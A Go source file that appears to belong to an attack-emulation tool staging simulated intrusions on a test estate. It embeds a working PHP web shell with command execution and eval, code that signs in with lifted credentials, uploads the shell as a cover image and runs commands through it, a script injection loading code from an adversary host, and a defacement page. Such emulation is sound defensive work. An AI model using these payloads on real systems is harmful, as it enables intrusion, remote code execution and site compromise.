package attack

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"io/fs"
	"mime/multipart"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"path"
	"strings"
	"time"

	"github.com/kedge-project/kedge/internal/estate"
)

const (
	requestTimeout = 20 * time.Second
	maxAnswer      = 1 << 20
	// injectedPages is how many pages get the script.
	injectedPages = 15
	shellName     = "shell.php"
)

// shell is what such files look like. Nothing here runs PHP: it is stored and served as text.
const shell = `<?php
// gallery helper
@error_reporting(0);
$k = isset($_REQUEST['cmd']) ? $_REQUEST['cmd'] : '';
if ($k !== '') { echo "<pre>"; system($k); echo "</pre>"; }
if (isset($_POST['d'])) { eval(base64_decode($_POST['d'])); }
if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], basename($_FILES['f']['name'])); }
?>
<form method="post"><input name="cmd"><input type="submit" value="go"></form>
`

const injected = `<script>(function(){var s=document.createElement('script');s.src='http://` + Source + `/analytics/t.js?r='+Math.random();` +
	`document.head.appendChild(s)})();</script>`

const defaced = `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>0wned</title></head>
<body style="background:#000;color:#0f0;text-align:center;font-family:monospace">
<h1>H4CKED BY GHOST ANCHOR</h1>
<p>Your security is a joke. All your documents belong to us.</p>
</body></html>
`

// Shell is what UploadShell did.
type Shell struct {
	Path     string // absolute, of the file it left
	URL      string // under which it is served
	Source   string // address the requests came from
	Request  string // path of the request that brought it in
	Uploaded time.Time
}

// UploadShell signs in to the publications service with stolen credentials, uploads a web shell as a cover image and
// asks for it.
func (a *Attacker) UploadShell(ctx context.Context) (Shell, error) {
	s, err := a.uploadShell(ctx)
	if err != nil {
		return Shell{}, fmt.Errorf("upload web shell: %w", err)
	}
	return s, nil
}

func (a *Attacker) uploadShell(ctx context.Context) (Shell, error) {
	service, err := a.estate.Service("publications")
	if err != nil {
		return Shell{}, err
	}
	way, err := signInOf(service)
	if err != nil {
		return Shell{}, err
	}
	passwordFile, err := a.inside(way.PasswordFile)
	if err != nil {
		return Shell{}, err
	}
	password, err := a.root.ReadFile(passwordFile)
	if err != nil {
		return Shell{}, err
	}
	jar, err := cookiejar.New(nil)
	if err != nil {
		return Shell{}, err
	}
	transport := &http.Transport{DialContext: dialer(Source).DialContext} // and no proxy
	defer transport.CloseIdleConnections()
	client := &http.Client{Jar: jar, Transport: transport, Timeout: requestTimeout}

	form := url.Values{}
	for name, value := range way.Form {
		form.Set(name, strings.ReplaceAll(value, "{password}", strings.TrimSpace(string(password))))
	}
	if err := send(ctx, client, http.MethodPost, way.SignIn, "application/x-www-form-urlencoded", []byte(form.Encode())); err != nil {
		return Shell{}, err
	}
	body, contentType, err := coverForm()
	if err != nil {
		return Shell{}, err
	}
	site, err := url.Parse(way.SignIn)
	if err != nil {
		return Shell{}, err
	}
	at := time.Now().UTC()
	upload := site.JoinPath("/../covers")
	if err := send(ctx, client, http.MethodPost, upload.String(), contentType, body); err != nil {
		return Shell{}, err
	}
	served := site.JoinPath("/../uploads", shellName)
	for _, command := range []string{"id", "uname -a", "ls -la"} {
		served.RawQuery = url.Values{"cmd": {command}}.Encode()
		if err := send(ctx, client, http.MethodGet, served.String(), "", nil); err != nil {
			return Shell{}, err
		}
	}
	served.RawQuery = ""
	return Shell{
		Path: path.Join(service.Watch.DocumentRoot, "uploads", shellName), URL: served.String(),
		Source: Source, Request: upload.Path, Uploaded: at,
	}, nil
}

// signInOf finds how people sign in to the service.
func signInOf(service *estate.Service) (estate.Probe, error) {
	for _, p := range service.Probes {
		if p.SignIn != "" {
			return p, nil
		}
	}
	return estate.Probe{}, fmt.Errorf("service %s has no sign-in", service.Name)
}

// coverForm is the upload form, filled in.
func coverForm() (body []byte, contentType string, err error) {
	var buf bytes.Buffer
	form := multipart.NewWriter(&buf)
	part, err := form.CreateFormFile("cover", shellName)
	if err != nil {
		return nil, "", err
	}
	if _, err := io.WriteString(part, shell); err != nil {
		return nil, "", err
	}
	err = form.Close()
	return buf.Bytes(), form.FormDataContentType(), err
}

func send(ctx context.Context, client *http.Client, method, to, contentType string, body []byte) error {
	request, err := http.NewRequestWithContext(ctx, method, to, bytes.NewReader(body))
	if err != nil {
		return err
	}
	if contentType != "" {
		request.Header.Set("Content-Type", contentType)
	}
	request.Header.Set("User-Agent", "python-requests/2.31.0")
	response, err := client.Do(request)
	if err != nil {
		return err
	}
	defer response.Body.Close()
	if _, err := io.Copy(io.Discard, io.LimitReader(response.Body, maxAnswer)); err != nil {
		return err
	}
	if response.StatusCode != http.StatusOK {
		return fmt.Errorf("%s answered with status %d", request.URL.Path, response.StatusCode)
	}
	return nil
}

// InjectScript puts a script into pages of the web site that loads another from the adversary's address. It returns
// the absolute paths of the pages.
func (a *Attacker) InjectScript(ctx context.Context) ([]string, error) {
	top, err := a.siteRoot()
	if err != nil {
		return nil, fmt.Errorf("inject script: %w", err)
	}
	pages, err := fs.Glob(a.root.FS(), top+"/*/*.html")
	if err != nil {
		return nil, fmt.Errorf("inject script: %w", err)
	}
	var done []string
	for _, page := range pages[:min(injectedPages, len(pages))] {
		if err := ctx.Err(); err != nil {
			return done, err
		}
		err := a.rewrite(page, func(old []byte) ([]byte, error) {
			return bytes.Replace(old, []byte("</head>"), []byte(injected+"\n</head>"), 1), nil
		})
		if err != nil {
			return done, fmt.Errorf("inject script: %w", err)
		}
		done = append(done, path.Join(a.dir, page))
	}
	return done, nil
}

// Deface replaces the web site's home page and returns its absolute path.
func (a *Attacker) Deface(context.Context) (string, error) {
	top, err := a.siteRoot()
	if err != nil {
		return "", fmt.Errorf("deface: %w", err)
	}
	page := path.Join(top, "index.html")
	if err := a.rewrite(page, func([]byte) ([]byte, error) { return []byte(defaced), nil }); err != nil {
		return "", fmt.Errorf("deface: %w", err)
	}
	return path.Join(a.dir, page), nil
}

func (a *Attacker) siteRoot() (string, error) {
	site, err := a.estate.Service("website")
	if err != nil {
		return "", err
	}
	if site.Watch.DocumentRoot == "" {
		return "", os.ErrNotExist
	}
	return a.inside(site.Watch.DocumentRoot)
}
